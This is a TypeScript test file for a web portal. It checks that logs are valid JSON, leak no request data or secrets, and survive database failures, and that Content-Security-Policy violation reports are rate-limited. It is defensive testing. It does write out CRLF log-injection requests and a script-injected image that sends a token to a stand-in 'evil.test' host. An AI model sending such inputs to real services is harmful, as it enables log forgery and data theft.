import { randomBytes } from 'node:crypto'
import { chmodSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import Database from 'better-sqlite3'
import { startPortal, type RunningPortal } from '@/tests/support/portal'
import { addAccount, openBackDoor, type Account } from './support/members'
import { send } from './support/raw-request'
import { builtPaths, callAction, serverActions } from './support/server-actions'
import { expect, test } from './support/test'

type Line = {
  level: string
  msg: string
  requestId?: string
  route?: string
  status?: number
  error?: { name: string; frames?: string[] }
}

/** Where a portal has something to say, and everything that a request can hold is something that nobody is to read. */
const canary = `stampNL001.${randomBytes(24).toString('base64url')}`
const canaryMail = `${randomBytes(12).toString('hex')}@example.com`
const id = '7d444840-9dc0-11d1-b245-5ffdce74fad2'

/** Every line from the ready one on; each is JSON, or this throws. */
function readLines(portal: RunningPortal): Line[] {
  const lines = portal.readLog().split('\n').filter(Boolean)
  return lines.slice(lines.findIndex((line) => line.includes('portal ready on'))).map((line) => JSON.parse(line) as Line)
}

/** Asks every page and action for something that holds canaries wherever a request can hold any. */
async function askEverything({ port, url }: RunningPortal, { cookie }: Account): Promise<void> {
  const Cookie = `${cookie.name}=${cookie.value}; other=${canary}`
  const headers = { Cookie, 'User-Agent': canary, Referer: `${url}/?code=${canary}`, 'X-Canary': canary, 'Accept-Language': canary }
  const query = `code=${canary}&state=${canary}&q=${canary}&app=${canary}&email=${canaryMail}&returnTo=/${canary}`
  for (const path of [
    ...builtPaths,
    '/nowhere',
    `/${canary}`,
    '/api/auth/session',
    '/api/auth/callback/credentials',
    `/settings/${canary}`,
  ])
    await send({ port, path: `${path.replace(/\[\w+\]/, id).replace(/\[.*/, canary)}?${query}`, headers })
  const fields = {
    email: canaryMail,
    password: canary,
    codeReturnUrl: `${url}/callback/exact-online?${query}`,
    clientSecret: canary,
    name: canary,
  }
  for (const action of Object.keys(serverActions)) {
    for (const withState of [true, false])
      await callAction({
        port,
        page: '/account',
        action,
        fields: { ...fields, id, attemptId: id },
        withState,
        headers: { ...headers, Origin: url },
      })
  }
  const json = { ...headers, Origin: url, 'Content-Type': 'application/json' }
  for (const body of [JSON.stringify(fields), `{"${canary}`, `["${canary}"]`]) {
    await send({ port, path: '/api/auth/callback/credentials', method: 'POST', headers: json, body })
    await send({ port, path: '/api/auth/_log', method: 'POST', headers: json, body })
    await send({ port, path: '/account', method: 'POST', headers: { ...json, 'Next-Action': canary }, body })
  }
}

/** As no client library would send it. */
const sendBytes = (port: number, bytes: string) =>
  new Promise((resolve) => {
    const socket = connect(port, 'localhost', () => socket.end(bytes))
    socket.on('error', resolve).on('close', resolve).resume()
  })

test('Every line of the log is JSON, holds nothing of what was sent, and names its request, whatever breaks', async () => {
  const portal = await startPortal({ logFile: 'test-results/portals/logs.log' })
  const backDoor = openBackDoor(portal.environment)
  const owner = await addAccount(backDoor)
  await askEverything(portal, owner)
  await sendBytes(
    portal.port,
    `GET /?x=${canary}\r\n{"level":"fatal"} HTTP/1.1\r\nHost: x\r\nX: a\r\n{"level":"fatal","msg":"${canary}"}\r\n\r\n`,
  )
  await sendBytes(portal.port, `GET /${canary}%0d%0a{"level":"fatal"} HTTP/1.1\r\nHost: ${canary}\r\nConnection: close\r\n\r\n`)
  await sendBytes(portal.port, `POST /login HTTP/1.1\r\nHost: x\r\nOrigin: ${portal.url}\r\nContent-Length: 500\r\n\r\n${canary}`)

  await test.step('the database has lost a table, for a while', async () => {
    const database = new Database(portal.databaseFile)
    database.exec('PRAGMA foreign_keys = OFF; ALTER TABLE Session RENAME TO Lost')
    await askEverything(portal, owner)
    database.exec('ALTER TABLE Lost RENAME TO Session')
    database.close()
  })
  await backDoor.stop()
  await test.step('the database is no database any more', async () => {
    for (const ending of ['', '-wal', '-shm']) writeFileSync(`${portal.databaseFile}${ending}`, canary.repeat(2_000))
    chmodSync(portal.databaseFile, 0o000)
    await askEverything(portal, owner)
  })

  expect(await portal.stop()).toBe(0)
  const lines = readLines(portal)
  const requests = lines.filter(({ msg }) => msg === 'request')
  expect(requests.length).toBeGreaterThan(150)
  expect(requests.filter(({ requestId }) => !/^[0-9a-f-]{36}$/.test(requestId ?? ''))).toEqual([])
  expect(new Set(requests.map(({ requestId }) => requestId)).size).toBe(requests.length)
  expect(requests.filter(({ status = 500 }) => status < 400).map(({ route }) => route)).not.toContain('other')

  const failures = lines.filter(({ level }) => level === 'error')
  expect(failures.length, 'what broke is told').toBeGreaterThan(20)
  expect(failures.filter(({ error }) => !error?.frames?.length)).toEqual([])
  const known = new Set(requests.map(({ requestId }) => requestId))
  expect(failures.filter(({ requestId }) => requestId && !known.has(requestId))).toEqual([])
  const { NEXTAUTH_SECRET = '', ENCRYPTION_KEY = '' } = portal.environment
  const log = portal.readLog()
  for (const secret of [canary, canaryMail, owner.email, owner.password, owner.cookie.value, NEXTAUTH_SECRET, ENCRYPTION_KEY]) {
    for (const shape of [secret, encodeURIComponent(secret), Buffer.from(secret).toString('base64').replace(/=+$/, '').slice(0, -1)])
      expect.soft(log.includes(shape), secret).toBe(false)
  }
  expect(log).not.toContain('evil')
})

test('What the Content-Security-Policy keeps out is reported by the browser, and a flood of made-up reports is not written', async ({
  browser,
  announced,
}) => {
  announced.push(/Content Security Policy/)
  const portal = await startPortal()
  const reports = () => readLines(portal).filter(({ msg }) => msg === 'csp-report')
  try {
    const page = await browser.newPage()
    await page.goto(`${portal.url}/login`)
    const reported = page.waitForRequest(`${portal.url}/csp-report`, { timeout: 5_000 }).catch(() => null)
    await page.evaluate(() => {
      const image = document.createElement('img')
      image.src = 'https://stolen-token.evil.test/picture?code=secret'
      document.body.append(image)
    })
    await reported
    await page.close()

    const headers = { 'Content-Type': 'application/csp-report' }
    const body = JSON.stringify({
      'csp-report': { 'effective-directive': 'img-src', 'blocked-uri': 'https://stolen-token.evil.test/picture' },
    })
    for (let number = 0; number < 40; number++) await send({ port: portal.port, path: '/csp-report', method: 'POST', headers, body })
    const written = reports()
    expect(written.length).toBeGreaterThanOrEqual(9)
    expect(written.length).toBeLessThanOrEqual(20)
    expect(written[0]).toMatchObject({ level: 'warn', directive: 'img-src', blocked: 'https://*.evil.test' })
    expect(portal.readLog()).not.toMatch(/stolen|picture|secret/)
  } finally {
    expect(await portal.stop()).toBe(0)
  }
})
